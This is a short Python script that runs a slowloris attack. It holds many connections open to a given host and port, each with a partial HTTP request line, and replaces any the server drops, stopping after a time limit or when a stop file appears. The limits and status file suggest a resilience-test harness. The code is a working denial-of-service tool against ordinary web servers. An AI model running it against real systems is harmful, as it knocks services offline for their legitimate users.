#!/usr/bin/python3
"""Holds COUNT connections to HOST:PORT open, each having sent a partial request
line and then nothing (slowloris), opening a new one for each the server drops,
until the file STOP exists or SECONDS pass. Writes how many it holds to STATUS
once a second. Bounded in count and time: it stops by itself."""
import selectors
import socket
import sys
import time

host, port, count, stop, seconds, status = (sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4],
                                            float(sys.argv[5]), sys.argv[6])
sel = selectors.DefaultSelector()
held = set()
deadline = time.monotonic() + seconds
reported = 0.0


def open_one():
    """True when one more connection is held; False when the server refused it."""
    try:
        s = socket.create_connection((host, port), timeout=1)
        s.sendall(b"GET /metr")
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ)
        held.add(s)
        return True
    except OSError:
        return False


def stopped():
    try:
        open(stop).close()
        return True
    except OSError:
        return False


while time.monotonic() < deadline and not stopped():
    # up to 200 new ones a round, none more once one is refused (the server is gone):
    # the stop file is looked at between rounds
    for _ in range(min(200, count - len(held))):
        if not open_one():
            time.sleep(0.05)
            break
    for key, _ in sel.select(timeout=0.2):
        s = key.fileobj
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if not data:  # dropped by the server: replaced on the next round
            sel.unregister(s)
            held.discard(s)
            s.close()
    if time.monotonic() - reported >= 1:
        with open(status, "w") as f:
            f.write(str(len(held)))
        reported = time.monotonic()
for s in held:
    s.close()
